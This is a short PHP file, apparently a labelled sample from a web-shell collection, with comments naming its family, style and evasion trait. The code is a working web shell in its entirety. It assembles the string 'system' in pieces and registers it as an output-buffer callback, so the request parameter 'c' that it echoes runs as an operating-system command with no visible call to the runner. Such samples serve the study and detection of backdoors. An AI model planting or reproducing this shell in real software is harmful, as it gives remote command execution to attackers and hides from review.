<?php
// Family: webshell/callback
// Style: output-buffer callback as the command runner: no call of the runner in sight
// Trait: ob_start() given a variable that holds "system"; what is echoed next (request data) is run when the buffer is flushed
$handler = 'sys' . 'tem';
ob_start($handler);
echo $_GET['c'];
ob_end_flush();
